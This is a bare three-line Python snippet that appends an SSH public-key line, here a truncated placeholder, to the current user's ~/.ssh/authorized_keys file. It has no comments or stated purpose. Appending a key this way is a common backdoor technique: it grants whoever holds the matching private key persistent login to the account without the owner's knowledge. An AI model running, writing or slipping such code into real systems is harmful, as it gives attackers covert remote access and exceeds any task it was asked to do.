import os
p = os.path.join(os.path.expanduser('~'), '.ssh', 'authorized_keys')
open(p, 'a').write('ssh-ed25519 AAAA x\n')
